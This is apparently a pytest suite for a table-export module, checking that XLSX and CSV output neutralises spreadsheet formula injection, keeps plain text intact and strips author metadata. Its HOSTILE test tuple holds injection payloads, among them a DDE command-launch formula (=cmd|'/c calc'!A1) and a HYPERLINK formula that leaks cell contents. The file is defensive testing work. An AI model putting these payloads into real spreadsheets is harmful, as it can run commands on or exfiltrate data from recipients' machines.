"""Tables that are handed out: nothing a spreadsheet would run, nothing lost, nothing about who wrote them."""

from __future__ import annotations

import csv
import json
import re
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import polars as pl
import pytest

from laurea.documents import handing_out
from laurea.documents.handing_out import Table
from laurea.errors import BadInput
from laurea.sources import tables

NOW = datetime(2026, 3, 1, 12, tzinfo=UTC)
HOSTILE = (
    '=HYPERLINK("https://example.org?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "=cmd|'/c calc'!A1",
    "https://example.org/", "mailto:a@example.org", "{=1}",
)  # fmt: skip
PLAIN = ("a,b", 'say "no"', "two\nlines", "Ünïcödé ქართული", "", "-5", "-0.5", "007", "1e5", "'quoted")


def table(*rows: tuple[object, ...], numbers: tuple[str, ...] = ()) -> Table:
    columns = tuple(f"column_{place}" for place in range(len(rows[0])))
    return Table("things", columns, lambda: iter(rows), frozenset(numbers))


def parts(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as book:
        return {name: book.read(name).decode() for name in book.namelist()}


def test_no_text_becomes_a_formula_or_a_link_in_a_workbook(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    handing_out.write_xlsx(path, [table(*((text, text) for text in HOSTILE))], [("title", HOSTILE[0])], NOW)
    found = parts(path)
    for name, text in found.items():
        assert "<f>" not in text, name
        assert "hyperlink" not in text.lower() or "worksheets/_rels" not in name
    assert not any("externalLink" in name or name.endswith("sheet2.xml.rels") for name in found)


def test_no_text_of_a_csv_file_begins_like_a_formula(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    handing_out.write_csv(path, table(*((text, text) for text in (*HOSTILE, *PLAIN))))
    with path.open(encoding="utf-8", newline="") as stream:
        cells = [cell for row in csv.reader(stream) for cell in row]
    assert [c for c in cells if re.match(r"[=+\-@\t\r]", c) and not re.fullmatch(r"-?\d+(\.\d+)?", c)] == []


def test_plain_texts_come_back_as_they_were(tmp_path: Path) -> None:
    handing_out.write_csv(tmp_path / "t.csv", table(*((text, "x") for text in PLAIN)))
    with (tmp_path / "t.csv").open(encoding="utf-8", newline="") as stream:
        assert tuple(row[0] for row in list(csv.reader(stream))[1:]) == PLAIN
    handing_out.write_jsonl(tmp_path / "t.jsonl", table(*((text, None) for text in (*PLAIN, *HOSTILE))))
    read = [json.loads(line) for line in (tmp_path / "t.jsonl").read_text("utf-8").splitlines()]
    assert tuple(row["column_0"] for row in read) == (*PLAIN, *HOSTILE)


def test_marks_are_numbers_in_a_workbook_and_ids_are_not(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    handing_out.write_xlsx(path, [table(("007", "17.5"), ("008", "61/3"), numbers=("column_1",))], [], NOW)
    sheet = parts(path)["xl/worksheets/sheet2.xml"]
    assert re.findall(r'<c r="B(\d)"[^>]*>(?:<v>|<is>)', sheet) == ["1", "2", "3"]
    assert "<v>17.5</v>" in sheet
    assert "<v>7</v>" not in sheet


def test_a_workbook_names_nobody(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    handing_out.write_xlsx(path, [table(("a",))], [("title", "T")], NOW)
    core = parts(path)["docProps/core.xml"]
    assert re.findall(r"<dc:creator>([^<]+)|<cp:lastModifiedBy>([^<]+)", core) == []
    assert "2026-03-01T12:00:00Z" in core


def test_a_text_too_long_for_a_cell_is_cut_with_a_sign(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    handing_out.write_xlsx(path, [table(("x" * 40_000,))], [], NOW)
    assert "x…" in parts(path)["xl/worksheets/sheet2.xml"]


def test_a_table_longer_than_a_sheet_is_refused_in_words(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(handing_out, "_MOST_ROWS", 2)
    with pytest.raises(BadInput, match="more rows"):
        handing_out.write_xlsx(tmp_path / "t.xlsx", [table(("a",), ("b",), ("c",))], [], NOW)


@pytest.mark.parametrize("ending", [".csv", ".jsonl", ".parquet"])
def test_a_table_reads_the_same_from_every_format(tmp_path: Path, ending: str) -> None:
    rows = {"application_id": ["A1", "A2"], "juror_id": ["J1", "J2"], "criterion": ["x", "y"], "points": ["1.50", "2"]}
    frame, path = pl.DataFrame(rows), tmp_path / f"sheets{ending}"
    write = {".csv": frame.write_csv, ".jsonl": frame.write_ndjson, ".parquet": frame.write_parquet}[ending]
    write(path)
    read = tables.read_sheets(path)
    assert read.refusals == []
    assert [(row["application_id"], row["points"]) for row in read.rows] == [("A1", "1.50"), ("A2", "2")]
